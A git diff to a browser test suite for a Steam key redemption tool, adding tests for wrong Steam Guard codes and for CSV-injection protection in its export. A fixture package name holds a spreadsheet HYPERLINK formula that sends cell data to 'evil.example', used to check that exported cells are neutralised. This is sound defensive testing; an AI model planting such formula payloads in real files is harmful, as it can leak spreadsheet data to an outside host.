@@ -10,7 +10,7 @@ import { once } from 'node:events';
 import { fileURLToPath } from 'node:url';
 import t from 'tap';
 import { startFakeSteam } from '../fake-steam/fake-steam.js';
-import { allDone, openPage, tableRows, textOf, until, withBrowser } from '../helpers/browser.js';
+import { allDone, downloads, openPage, tableRows, textOf, until, withBrowser } from '../helpers/browser.js';
 
 const BINARY = fileURLToPath(new URL('../../dist/bin/steam-key.js', import.meta.url));
 const PASSWORD = 'correct horse battery staple';
@@ -20,6 +20,8 @@ const steam = await startFakeSteam({
   keys: {
     'AAAAA-BBBBB-CCCCC': { packages: [{ id: 31337, name: 'Fake Game' }] },
     'DDDDD-EEEEE-FFFFF': { detail: 9, packages: [{ id: 4242, name: 'Owned Game' }] },
+    // Package names are the publisher's: these would be formulas in a spreadsheet.
+    'GGGGG-HHHHH-IIIII': { packages: [{ id: 666, name: '=HYPERLINK("https://evil.example/?"&A1,"Bonus")' }, { id: 667, name: '@SUM(1+1)' }] },
   },
 });
 t.teardown(() => steam.close());
@@ -49,21 +51,34 @@ listening.catch(() => undefined); // awaited below; not an unhandled rejection m
 
 await withBrowser(t, 'the page of the built binary, against the fake Steam', async (t, browser) => {
   const url = await listening;
-  const page = await openPage(t, browser, url);
+  const page = await openPage(t, browser, url, { acceptDownloads: true });
   await page.fill('#account-name', 'alice');
   await page.fill('#password', PASSWORD);
   await page.press('#password', 'Enter');
   t.match(await textOf(page, '#guard-message', /example\.org/), /e-mailed to your address at \*@example\.org/, 'steam-user asked for the e-mailed code');
-  await page.fill('#guard-code', 'WRONG');
+  const codeAsked = `!document.querySelector('#guard-button').disabled && document.querySelector('#guard-code').value === ''`;
+  for (const wrong of ['WRONG1', 'WRONG2']) {
+    await page.fill('#guard-code', wrong);
+    await page.press('#guard-code', 'Enter');
+    await until(page, codeAsked, 'the code asked again');
+    t.match(await textOf(page, '#guard-message', /wrong/), /^That code was wrong\./, 'a wrong code is called wrong');
+  }
+  // The third wrong code ends the sign-in through the real steam-user too, as the README says.
+  await page.fill('#guard-code', 'WRONG3');
   await page.press('#guard-code', 'Enter');
-  t.match(await textOf(page, '#guard-message', /wrong/), /^That code was wrong\./, 'the wrong code is called wrong');
+  t.equal(await textOf(page, '#sign-in-error', /./), 'The Steam Guard code was wrong or has expired. Sign in again to get a new one.');
+  t.ok(await page.isHidden('#guard'), 'the sign-in form is back');
+  t.equal(await page.evaluate('document.activeElement.id'), 'password', 'at the password, still filled in: Enter signs in again');
+  await page.press('#password', 'Enter');
+  await textOf(page, '#guard-message', /example\.org/);
+  await until(page, codeAsked, 'a new code asked');
   await page.fill('#guard-code', 'GOOD1');
   await page.press('#guard-code', 'Enter');
   t.equal(await textOf(page, '#account', /alice/), 'Signed in as alice');
   t.same(
     steam.log.flatMap((e) => (e.type === 'guard-code' ? [e.accepted] : [])),
-    [false, true],
-    'the fake Steam checked both codes',
+    [false, false, false, true],
+    'the fake Steam checked every code',
   );
 
   await page.fill('#keys-text', 'From the shop: aaaaa-bbbbb-ccccc and DDDDD-EEEEE-FFFFF.');
@@ -76,6 +91,22 @@ await withBrowser(t, 'the page of the built binary, against the fake Steam', asy
     { key: 'DDDDD-EEEEE-FFFFF', status: 'already-owned', details: /already own this.*Owned Game \(sub 4242\)/ },
   ]);
   t.same(steam.keysReceived, ['AAAAA-BBBBB-CCCCC', 'DDDDD-EEEEE-FFFFF'], 'Steam got each key once, upper-cased');
+
+  // A key whose packages are named like formulas: shown as text, and neutralised in the CSV (OWASP, CSV injection).
+  await page.fill('#keys-text', 'GGGGG-HHHHH-IIIII');
+  await page.click('#redeem');
+  await allDone(page, 3);
+  t.match((await tableRows(page))[2], { key: 'GGGGG-HHHHH-IIIII', status: 'activated', details: /=HYPERLINK\("https:\/\/evil\.example.*@SUM\(1\+1\)/ });
+  const { csv, json, raw } = await downloads(page);
+  t.equal(csv[2]!.packages, '666 =HYPERLINK("https://evil.example/?"&A1,"Bonus"); 667 @SUM(1+1)', 'the names, as they are');
+  t.match(raw, /,"666 =HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""Bonus""\); 667 @SUM\(1\+1\)",/, 'in one quoted cell: no separator in it starts a cell of its own');
+  for (const row of csv) for (const [column, value] of Object.entries(row)) t.notMatch(value, /^[=+\-@\t\r]/, `${row.key} ${column}: no cell starts a formula`);
+  t.equal(
+    await page.evaluate(`import('/export.js').then((m) => [m.csvField('=1+2'), m.csvField('@SUM(A1)'), m.csvField('-1'), m.csvField('+1')].join(' '))`),
+    `"'=1+2" "'@SUM(A1)" "'-1" "'+1"`,
+    "and a cell that would start one gets a leading quote, in the page's own CSV writer",
+  );
+  t.same(json.keys[2]!.result?.packages.map((p) => p.name), ['=HYPERLINK("https://evil.example/?"&A1,"Bonus")', '@SUM(1+1)'], 'the JSON keeps the names as they are');
 
   await page.click('#sign-out');
   // The form shows once the server has confirmed the sign-out: wait for that, not for its title.
